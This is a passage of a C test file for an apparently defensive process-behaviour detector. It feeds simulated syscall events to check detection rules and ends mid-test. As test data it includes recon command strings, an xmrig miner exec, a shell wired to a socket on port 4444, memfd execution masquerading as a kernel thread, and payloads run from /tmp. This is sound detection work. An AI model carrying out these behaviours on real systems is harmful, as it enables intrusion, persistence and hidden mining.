/*
 * test_process.c — the "process" detector fed hand-built events through
 * the real bus: every rule fires on its behaviour and stays silent on a
 * benign run (a Python interpreter start-up, a build then ./a.out).
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

#include "harness.h"

#define SH_MAX_ARGS 8

static void publish_exec(struct harness *h, int pid, double t, const char *path,
			 const char *const *argv, const char *phase, int err)
{
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
	char text[512];
	int argc = 0;
	while (argv[argc])
		argc++;
	snprintf(text, sizeof(text), "execve(\"%s\", [\"%s\"...]) = %s", path, argv[0],
		 err ? "-1 ENOENT (No such file or directory)" : "0");
	ev.syscall = "execve";
	ev.path = path;
	ev.raw_path = path;
	ev.argv = argv;
	ev.argc = argc;
	ev.phase = phase;
	ev.err = err;
	ev.errname = err ? "ENOENT" : NULL;
	ev.result = err ? -1 : 0;
	ev.text = text;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

static void publish_fork(struct harness *h, int pid, int child, double t, const char *phase)
{
	struct da_event ev = ev_make(DA_EV_PROC_FORK, pid, t);
	char text[128];
	snprintf(text, sizeof(text), "clone(child_stack=NULL, flags=SIGCHLD) = %d", child);
	ev.syscall = "clone";
	ev.target_pid = child;
	ev.result = child;
	ev.flags = 17;
	ev.detail = "process";
	ev.phase = phase;
	ev.text = text;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

static void publish_exit(struct harness *h, int pid, double t)
{
	struct da_event ev = ev_make(DA_EV_PROC_EXIT, pid, t);
	ev.text = "+++ exited with 0 +++";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

static void publish_open(struct harness *h, int pid, double t, const char *path, int flags,
			 unsigned access, int mode, const char *phase)
{
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, pid, t);
	char text[512];
	snprintf(text, sizeof(text), "openat(AT_FDCWD, \"%s\", 0%o) = 3", path, flags);
	ev.syscall = "openat";
	ev.path = path;
	ev.raw_path = path;
	ev.flags = flags;
	ev.access = access;
	ev.mode = mode;
	ev.fd = 3;
	ev.result = 3;
	ev.phase = phase;
	ev.text = text;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* What `python3 server.py` does in its first milliseconds. */
static void python_startup(struct harness *h, int pid)
{
	static const char *const argv[] = {"python3", "server.py", NULL};
	publish_exec(h, pid, 0.0, "/usr/bin/python3.11", argv, NULL, 0);
	publish_open(h, pid, 0.01, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, DA_ACC_READ, 0, NULL);
	publish_open(h, pid, 0.02, "/usr/lib/python3.11/encodings/__pycache__/__init__.cpython-311.pyc",
		     O_RDONLY | O_CLOEXEC, DA_ACC_READ, 0, NULL);
	publish_open(h, pid, 0.03, "/home/auditor/app/server.py", O_RDONLY | O_CLOEXEC, DA_ACC_READ, 0, NULL);
	publish_open(h, pid, 0.04, "/home/auditor/app/__pycache__/chat.cpython-311.pyc.140234",
		     O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, DA_ACC_WRITE | DA_ACC_CREATE, 0644, NULL);
	publish_open(h, pid, 0.05, "/etc/localtime", O_RDONLY | O_CLOEXEC, DA_ACC_READ, 0, NULL);
}

static bool message_has(const struct harness *h, const char *rule, const char *text)
{
	const struct harness_finding *f = harness_get(h, rule);
	return f && strstr(f->message, text);
}

Test(process, python_startup_is_silent)
{
	struct harness *h = harness_new("process", "allow_exec: [python3]\n", NULL);
	python_startup(h, 100);
	publish_exit(h, 100, 0.5);
	harness_finish(h);
	cr_expect_lt(harness_max_severity(h, NULL), DA_SEV_LOW);
	cr_expect_str_eq(harness_status(h), "safe");
	cr_expect_str_eq(harness_observation(h), "None");
	harness_free(h);
}

Test(process, own_command_allowed_without_config)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	harness_finish(h);
	cr_expect_eq(harness_count(h, NULL), 0, "own command must be allowed");
	harness_free(h);
}

/* Everyday tools and the submission's own programs are a remark (low);
 * an unknown program elsewhere is a warning (medium). */
Test(process, unlisted_everyday_tools_are_low)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	static const char *const tee[] = {"tee", "/dev/stderr", NULL};
	publish_exec(h, 101, 1.0, "/usr/bin/tee", tee, NULL, 0);
	static const char *const own[] = {"./solver", "in.txt", NULL};
	publish_exec(h, 102, 1.1, "/home/auditor/app/solver", own, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 2);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_LOW);
	harness_free(h);

	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	static const char *const odd[] = {"xmrig", "-o", "pool", NULL};
	publish_exec(h, 101, 1.0, "/opt/xmrig/xmrig", odd, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
	harness_free(h);
}

/* prctl(PR_SET_NAME) to a kernel thread's name: masquerading; an
 * ordinary name is nothing. */
Test(process, renaming_to_a_kernel_thread_is_masquerade)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event ev = {.struct_size = sizeof(ev), .kind = DA_EV_PROC_SESSION, .pid = 100,
			      .tid = 100, .time_s = 1.0, .syscall = "prctl", .detail = "PR_SET_NAME",
			      .raw_path = "worker-pool", .fd = -1, .target_fd = -1,
			      .text = "prctl(PR_SET_NAME, \"worker-pool\") = 0"};
	harness_publish(h, &ev);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
	harness_free(h);

	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	ev.raw_path = "kworker/0:1";
	ev.text = "prctl(PR_SET_NAME, \"kworker/0:1\") = 0";
	harness_publish(h, &ev);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "process.masquerade");
	cr_assert_not_null(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	cr_expect(strstr(f->message, "kworker/0:1"), "%s", f->message);
	harness_free(h);
}

Test(process, shell_with_recon_fires)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	static const char *const argv[] = {"/bin/sh", "-c", "id; uname -a | tee /tmp/x", NULL};
	publish_exec(h, 101, 1.1, "/usr/bin/dash", argv, NULL, 0);
	harness_finish(h);
	/* a plain command string is low: the recon it runs is reported on its own */
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
	cr_expect(message_has(h, "process.shell", "id; uname -a"), "the -c string is in the message");
	cr_expect_eq(harness_count(h, "process.recon"), 2, "id and uname are listed");
	/* two identity questions alone are low */
	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_LOW);
	const struct harness_finding *f = harness_get(h, "process.shell");
	cr_assert(f);
	cr_expect_eq(f->n_evidence, 1);
	cr_expect_not_null(f->recommendation);
	cr_expect_str_eq(harness_status(h), "warn");
	harness_free(h);

	/* a third kind makes a sweep: medium from there on */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	static const char *const sweep[] = {"/bin/sh", "-c", "id; uname -a; hostname", NULL};
	publish_exec(h, 101, 1.1, "/usr/bin/dash", sweep, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.recon"), 3);
	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
	harness_free(h);

	/* looking at processes is reconnaissance on its own */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	static const char *const ps[] = {"ps", "aux", NULL};
	publish_exec(h, 102, 1.2, "/usr/bin/ps", ps, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
	harness_free(h);
}

Test(process, allowed_shell_still_reports_recon)
{
	struct harness *h = harness_new("process", "allow_exec: [sh, dash]\n", NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	static const char *const argv[] = {"sh", "-c", "whoami", NULL};
	publish_exec(h, 101, 1.1, "/usr/bin/dash", argv, NULL, 0);
	static const char *const ok[] = {"sh", "-c", "ls -l > listing.txt", NULL};
	publish_exec(h, 102, 1.2, "/usr/bin/dash", ok, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.shell"), 0);
	cr_expect_eq(harness_count(h, "process.recon"), 1);
	cr_expect(message_has(h, "process.recon", "whoami"));
	harness_free(h);
}

Test(process, failed_shell_exec_is_an_attempt)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	static const char *const argv[] = {"bash", "-i", NULL};
	publish_exec(h, 101, 1.1, "/bin/bash", argv, NULL, ENOENT);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH);
	const struct harness_finding *f = harness_get(h, "process.shell");
	cr_assert(f);
	cr_assert_eq(f->n_evidence, 1);
	cr_expect(strstr(f->evidence[0], "ENOENT"), "the failed result is in the evidence");
	harness_free(h);
}

Test(process, unlisted_exec_and_allow_list)
{
	static const char *const argv[] = {"curl", "-s", "http://example.invalid/", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/curl", argv, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
	cr_expect(message_has(h, "process.exec_unlisted", "curl -s"));
	cr_expect_str_eq(harness_status(h), "warn");
	harness_free(h);

	const char *configs[] = {"allow_exec: [curl]\n", "allow_exec: [\"/usr/bin/*\"]\n",
				 "allow_exec: [\"cu*\"]\n"};
	for (size_t i = 0; i < 3; i++) {
		h = harness_new("process", configs[i], NULL);
		publish_exec(h, 101, 1.0, "/usr/bin/curl", argv, NULL, 0);
		harness_finish(h);
		cr_expect_eq(harness_count(h, NULL), 0, "config %s must allow curl", configs[i]);
		harness_free(h);
	}
}

Test(process, exec_from_writable_places)
{
	static const char *const argv[] = {"./payload", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/tmp/payload", argv, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
	harness_free(h);

	/* a file the program itself wrote in the workdir, under a hidden
	 * name, then ran (code generation is generated_code_in_the_workdir) */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_open(h, 100, 1.0, "/home/auditor/app/.helper", O_WRONLY | O_CREAT | O_TRUNC,
		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0755, NULL);
	static const char *const helper[] = {"./.helper", NULL};
	publish_exec(h, 102, 1.5, "/home/auditor/app/.helper", helper, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* HOME outside the workdir: live, the sandbox's fresh HOME holds
	 * only what the run put there */
	h = harness_new_live("process", NULL);
	static const char *const dot[] = {"/home/auditor/.cache/x", NULL};
	publish_exec(h, 103, 1.5, "/home/auditor/.cache/x", dot, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* a replayed log's HOME is the user's own: ~/.local/bin and pyenv
	 * hold the tools they installed; one the run wrote is still dropped */
	h = harness_new("process", NULL, NULL);
	static const char *const tool[] = {"/home/auditor/.local/bin/tool", NULL};
	publish_exec(h, 104, 1.5, "/home/auditor/.local/bin/tool", tool, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_writable"), 0);
	harness_free(h);
	h = harness_new("process", NULL, NULL);
	publish_open(h, 100, 1.0, "/home/auditor/.cache/x", O_WRONLY | O_CREAT | O_TRUNC,
		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0755, NULL);
	publish_exec(h, 103, 1.5, "/home/auditor/.cache/x", dot, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);
}

Test(process, memfd_exec_is_critical)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 100, 2.0);
	static const char *const argv[] = {"[kworker]", NULL};
	ev.syscall = "execveat";
	ev.path = "/memfd:x (deleted)";
	ev.detail = "memfd";
	ev.fd = 4;
	ev.argv = argv;
	ev.argc = 1;
	ev.text = "execveat(4, \"\", [\"[kworker]\"], NULL, AT_EMPTY_PATH) = 0";
	harness_publish(h, &ev);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.memfd_exec"), DA_SEV_CRITICAL);
	harness_free(h);
}

Test(process, recon_commands_direct)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	static const char *const id[] = {"id", NULL};
	static const char *const cat_etc[] = {"cat", "/etc/os-release", NULL};
	static const char *const find_root[] = {"find", "/", "-perm", "-4000", NULL};
	static const char *const env_alone[] = {"env", NULL};
	publish_exec(h, 101, 1.0, "/usr/bin/id", id, NULL, 0);
	publish_exec(h, 102, 1.1, "/usr/bin/cat", cat_etc, NULL, 0);
	publish_exec(h, 103, 1.2, "/usr/bin/find", find_root, NULL, 0);
	publish_exec(h, 104, 1.3, "/usr/bin/env", env_alone, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.recon"), 4);
	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
	harness_free(h);

	/* cat of its own file and env running a program are not recon */
	h = harness_new("process", "allow_exec: [cat, env, python3]\n", NULL);
	static const char *const cat_own[] = {"cat", "notes.txt", NULL};
	static const char *const env_run[] = {"env", "LANG=C", "python3", "x.py", NULL};
	publish_exec(h, 101, 1.0, "/usr/bin/cat", cat_own, NULL, 0);
	publish_exec(h, 102, 1.1, "/usr/bin/env", env_run, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

static void publish_setsid(struct harness *h, int pid, double t)
{
	struct da_event ev = ev_make(DA_EV_PROC_SESSION, pid, t);
	char text[64];
	snprintf(text, sizeof(text), "setsid() = %d", pid);
	ev.syscall = "setsid";
	ev.result = pid;
	ev.text = text;
	cr_assert_eq(harness_publish(h, &ev), 0);
}

Test(process, setsid_in_child_is_daemonizing)
{
	/* setsid, then the parent exits and the child lives on */
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_setsid(h, 101, 1.1);
	publish_exit(h, 100, 1.2);
	publish_exit(h, 101, 4.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_MEDIUM);
	const struct harness_finding *f = harness_find(h, "process.daemon", "new session");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	cr_expect(strstr(f->evidence[0], "setsid()"), "%s", f->evidence[0]);
	harness_free(h);

	/* ... or still runs when the main program has exited */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_setsid(h, 101, 1.1);
	publish_exit(h, 100, 1.2);
	harness_finish(h);
	f = harness_find(h, "process.daemon", "new session");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	harness_free(h);

	/* setsid, fork, exit: the grandchild in that session lives on */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_setsid(h, 101, 1.1);
	publish_fork(h, 101, 102, 1.2, NULL);
	publish_exit(h, 101, 1.3);
	publish_exit(h, 102, 5.0);
	harness_finish(h);
	f = harness_find(h, "process.daemon", "new session");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	harness_free(h);

	/* the main process itself calling setsid is not a detached child */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_setsid(h, 100, 1.1);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.daemon"), 0);
	harness_free(h);
}

Test(process, double_fork_and_outliving)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_fork(h, 101, 102, 1.1, NULL);
	publish_exit(h, 101, 1.2);
	publish_exit(h, 102, 5.0); /* lived on 3.8 s after its parent */
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_MEDIUM);
	harness_free(h);

	/* a child still running when the main program exited */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exit(h, 100, 2.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_MEDIUM);
	harness_free(h);

	/* children reaped before their parent ends, or the window closing on a
	 * running program, are not daemons */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exit(h, 101, 1.5);
	publish_fork(h, 100, 102, 2.0, NULL);
	struct da_event end = ev_make(DA_EV_TARGET_EXIT, 100, 60.0);
	end.arg[0] = -1;
	end.arg[2] = 1;
	harness_publish(h, &end);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.daemon"), 0);
	harness_free(h);
}

Test(process, runaway_process_creation)
{
	struct harness *h = harness_new("process", "max_processes: 10\n", NULL);
	python_startup(h, 100);
	for (int i = 0; i < 12; i++)
		publish_fork(h, 100, 200 + i, 1.0 + i * 0.01, NULL);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.runaway"), DA_SEV_HIGH);
	cr_expect_eq(harness_count(h, "process.runaway"), 1);
	harness_free(h);

	/* threads are not processes */
	h = harness_new("process", "max_processes: 10\n", NULL);
	python_startup(h, 100);
	for (int i = 0; i < 20; i++) {
		struct da_event ev = ev_make(DA_EV_PROC_FORK, 100, 1.0);
		ev.target_pid = 300 + i;
		ev.flags = 0x3d0f00;
		ev.detail = "thread";
		harness_publish(h, &ev);
	}
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.runaway"), 0);
	harness_free(h);

	/* fork failing with EAGAIN */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event ev = ev_make(DA_EV_PROC_FORK, 100, 1.0);
	ev.target_pid = -1;
	ev.result = -1;
	ev.err = EAGAIN;
	ev.errname = "EAGAIN";
	ev.detail = "process";
	ev.text = "clone(...) = -1 EAGAIN (Resource temporarily unavailable)";
	harness_publish(h, &ev);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.runaway"), DA_SEV_HIGH);
	harness_free(h);
}

Test(process, make_then_a_out_is_silent)
{
	static const char *const command[] = {"./a.out", NULL};
	struct harness *h = harness_new_run("process", "allow_exec: [make]\n", NULL, NULL, command, NULL);
	static const char *const make[] = {"make", NULL};
	static const char *const sh[] = {"/bin/sh", "-c", "cc -o a.out main.c", NULL};
	static const char *const cc[] = {"cc", "-o", "a.out", "main.c", NULL};
	static const char *const cc1[] = {"/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "main.c", NULL};
	static const char *const as[] = {"as", "-o", "/tmp/cc1.o", "/tmp/cc2.s", NULL};
	static const char *const ld[] = {"/usr/bin/ld", "-o", "a.out", NULL};
	static const char *const run[] = {"./a.out", NULL};
	publish_exec(h, 10, 0.0, "/usr/bin/make", make, "setup", 0);
	publish_fork(h, 10, 11, 0.1, "setup");
	publish_exec(h, 11, 0.1, "/usr/bin/dash", sh, "setup", 0);
	publish_exec(h, 11, 0.2, "/usr/bin/x86_64-linux-gnu-gcc-12", cc, "setup", 0);
	publish_exec(h, 12, 0.3, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", cc1, "setup", 0);
	publish_exec(h, 13, 0.4, "/usr/bin/x86_64-linux-gnu-as", as, "setup", 0);
	publish_exec(h, 14, 0.5, "/usr/bin/x86_64-linux-gnu-ld.bfd", ld, "setup", 0);
	publish_open(h, 14, 0.6, "/home/auditor/app/a.out", O_RDWR | O_CREAT | O_TRUNC,
		     DA_ACC_READ | DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0777, "setup");
	publish_exec(h, 100, 1.0, "/home/auditor/app/a.out", run, NULL, 0);
	publish_exit(h, 100, 1.5);
	harness_finish(h);
	harness_dump(h);
	cr_expect_lt(harness_max_severity(h, NULL), DA_SEV_LOW);
	harness_free(h);
}

Test(process, config_errors)
{
	int rc = 0;
	struct harness *h = harness_new("process", "allow_exec: [python3]\nallow_shell: yes\n", &rc);
	cr_expect_eq(rc, -EINVAL);
	cr_expect(strstr(harness_error(h), "allow_shell"), "error names the key: %s", harness_error(h));
	cr_expect(strstr(harness_error(h), ":"), "error starts with file:line");
	harness_free(h);

	h = harness_new("process", "max_processes: lots\n", &rc);
	cr_expect_eq(rc, -EINVAL);
	cr_expect(strstr(harness_error(h), "max_processes"));
	harness_free(h);
}

Test(process, hostile_events_do_not_crash)
{
	static char long_path[9000];
	memset(long_path, 'a', sizeof(long_path) - 1);
	long_path[0] = '/';
	static const char *const holes[] = {"sh", NULL, "-c", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	enum da_event_kind kinds[] = {DA_EV_PROC_EXEC, DA_EV_PROC_FORK, DA_EV_PROC_EXIT,
				      DA_EV_PROC_SESSION, DA_EV_FILE_OPEN, DA_EV_FILE_RENAME,
				      DA_EV_FILE_CHMOD, DA_EV_TARGET_EXIT};
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		struct da_event ev = ev_make(kinds[i], 0, 0);
		cr_expect_eq(harness_publish(h, &ev), 0, "empty event of kind %d", kinds[i]);
		ev.path = long_path;
		ev.argc = 3;
		ev.argv = holes;
		ev.access = DA_ACC_WRITE;
		ev.target_pid = 5;
		cr_expect_eq(harness_publish(h, &ev), 0);
	}
	/* a shell script far longer than the scanner's buffer */
	static char script[6000];
	memset(script, 'x', sizeof(script) - 1);
	memcpy(script, "id;", 3);
	static const char *const sh[] = {"sh", "-c", script, NULL};
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 7, 1);
	ev.path = "/bin/sh";
	ev.argv = sh;
	ev.argc = 3;
	cr_expect_eq(harness_publish(h, &ev), 0);
	cr_expect_eq(harness_finish(h), 0);
	cr_expect_eq(harness_count(h, "process.recon"), 1, "recon before the cut is still seen");
	harness_free(h);
}

Test(process, setup_command_is_allowed)
{
	struct harness *h = harness_new("process", NULL, NULL);
	static const char *const pip[] = {"pip3", "install", "-r", "requirements.txt", NULL};
	static const char *const curl[] = {"curl", "http://example.invalid", NULL};
	publish_exec(h, 10, 0.0, "/usr/bin/pip3", pip, "setup", 0);
	publish_exec(h, 11, 0.1, "/usr/bin/curl", curl, "setup", 0);
	python_startup(h, 100);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 1, "only curl is unexpected");
	cr_expect(message_has(h, "process.exec_unlisted", "curl"));
	harness_free(h);
}

/* `sh -c "make && ./a.out"` as the command, as the benign-c-make fixture
 * records it: children's execs show up before their parent's clone returns. */
static void make_and_run(struct harness *h)
{
	static const char *const sh[] = {"sh", "-c", "make && ./a.out", NULL};
	static const char *const make[] = {"make", NULL};
	static const char *const cc[] = {"cc", "-O1", "-o", "a.out", "hello.c", NULL};
	static const char *const cc1[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "hello.c", NULL};
	static const char *const as[] = {"as", "--64", "-o", "/tmp/ccD5.o", "/tmp/ccUZ.s", NULL};
	static const char *const collect2[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-o", "a.out", NULL};
	static const char *const ld[] = {"/usr/bin/ld", "-o", "a.out", NULL};
	static const char *const run[] = {"./a.out", NULL};
	struct {
		int pid, ppid;
		const char *path;
		const char *const *argv;
	} execs[] = {
		{7, 6, "/usr/bin/make", make},
		{8, 7, "/usr/bin/cc", cc},
		{9, 8, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1},
		{10, 8, "/usr/bin/as", as},
		{11, 8, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", collect2},
		{12, 11, "/usr/bin/ld", ld},
	};
	publish_exec(h, 6, 0.0, "/usr/bin/sh", sh, NULL, 0);
	for (size_t i = 0; i < sizeof(execs) / sizeof(execs[0]); i++) {
		struct da_event ev = ev_make(DA_EV_PROC_EXEC, execs[i].pid, 0.1 * (double)(i + 1));
		int argc = 0;
		while (execs[i].argv[argc])
			argc++;
		ev.ppid = execs[i].ppid;
		ev.path = execs[i].path;
		ev.argv = execs[i].argv;
		ev.argc = argc;
		ev.text = "execve(...) = 0";
		harness_publish(h, &ev);
		publish_fork(h, execs[i].ppid, execs[i].pid, 0.1 * (double)(i + 1), NULL);
	}
	publish_open(h, 12, 0.8, "/home/auditor/app/a.out", O_RDWR | O_CREAT | O_TRUNC,
		     DA_ACC_READ | DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0777, NULL);
	for (int pid = 12; pid >= 7; pid--)
		publish_exit(h, pid, 0.9);
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 13, 1.0);
	ev.ppid = 6;
	ev.path = "/home/auditor/app/a.out";
	ev.raw_path = "./a.out";
	ev.argv = run;
	ev.argc = 1;
	harness_publish(h, &ev);
	publish_fork(h, 6, 13, 1.0, NULL);
	publish_exit(h, 13, 1.1);
	publish_exit(h, 6, 1.2);
}

Test(process, make_and_a_out_in_the_command)
{
	static const char *const command[] = {"sh", "-c", "make && ./a.out", NULL};
	struct harness *h = harness_new_run("process", "allow_exec: [make, a.out]\n", NULL, NULL,
					    command, NULL);
	make_and_run(h);
	harness_finish(h);
	harness_dump(h);
	cr_expect_lt(harness_max_severity(h, NULL), DA_SEV_LOW);
	harness_free(h);

	/* make not allowed: an everyday build tool outside the allow-list (low) */
	h = harness_new_run("process", "allow_exec: [a.out]\n", NULL, NULL, command, NULL);
	make_and_run(h);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, NULL), DA_SEV_LOW);
	cr_expect(message_has(h, "process.exec_unlisted", "make"));
	harness_free(h);
}

Test(process, shell_on_a_socket_is_critical)
{
	struct harness *h = harness_new("process", "allow_exec: [sh]\n", NULL);
	python_startup(h, 100);
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 101, 1.0);
	static const char *const argv[] = {"/bin/sh", "-i", NULL};
	ev.path = "/usr/bin/dash";
	ev.argv = argv;
	ev.argc = 2;
	ev.stdio[0] = "socket:inet/stream->127.0.0.1:4444";
	ev.stdio[1] = "socket:inet/stream->127.0.0.1:4444";
	ev.stdio[2] = "socket:inet/stream->127.0.0.1:4444";
	ev.text = "execve(\"/bin/sh\", [\"/bin/sh\", \"-i\"], ...) = 0";
	harness_publish(h, &ev);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_CRITICAL);
	harness_free(h);
}

Test(process, replay_without_command_takes_the_first_program)
{
	static const char *const no_command[] = {NULL};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, no_command, NULL);
	python_startup(h, 100);
	static const char *const curl[] = {"curl", "x", NULL};
	publish_exec(h, 101, 1.0, "/usr/bin/curl", curl, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 1, "python3 is the target, curl is not");
	cr_expect(message_has(h, "process.exec_unlisted", "curl"));
	harness_free(h);
}

Test(process, relative_exec_is_judged_where_the_core_resolved_it)
{
	/* chdir("/"), then ./payload written and run: the core resolved it to
	 * /payload, and that is where it is judged (not in the workdir). */
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, 100, 1.0);
	ev.path = "/payload";
	ev.raw_path = "payload";
	ev.access = DA_ACC_WRITE | DA_ACC_CREATE;
	harness_publish(h, &ev);
	static const char *const argv[] = {"./payload", NULL};
	ev = ev_make(DA_EV_PROC_EXEC, 101, 2.0);
	ev.path = "/payload";
	ev.raw_path = "./payload";
	ev.argv = argv;
	ev.argc = 1;
	harness_publish(h, &ev);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "process.exec_writable");
	cr_assert(f, "a file the target created and then ran");
	cr_expect(strstr(f->message, "/payload") && !strstr(f->message, "/home/auditor/app"), "%s",
		  f->message);
	harness_free(h);
}

/* Every kind with empty members, then with hostile ones: no crash, no error. */
Test(process, empty_and_hostile_events_are_survived)
{
	struct harness *h = harness_new("process", NULL, NULL);
	harness_publish_hostile_events(h);
	harness_free(h);
}

/* An exec whose environment carries dynamic-loader variables (live runs
 * and strace -v logs see them). */
static void publish_exec_env(struct harness *h, int pid, double t, const char *path,
			     const char *const *argv, const char *loader_env, const char *phase)
{
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
	int argc = 0;
	while (argv[argc])
		argc++;
	ev.syscall = "execve";
	ev.path = path;
	ev.argv = argv;
	ev.argc = argc;
	ev.phase = phase;
	ev.loader_env = loader_env;
	ev.text = "execve(...) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

Test(process, preloaded_library_is_code_injection)
{
	static const char *const py[] = {"python3", "server.py", NULL};
	static const char *const ls[] = {"ls", NULL};
	struct harness *h = harness_new("process", "allow_exec: [ls]\n", NULL);
	/* dynaudit's own launch (target.env) is not the submission's doing */
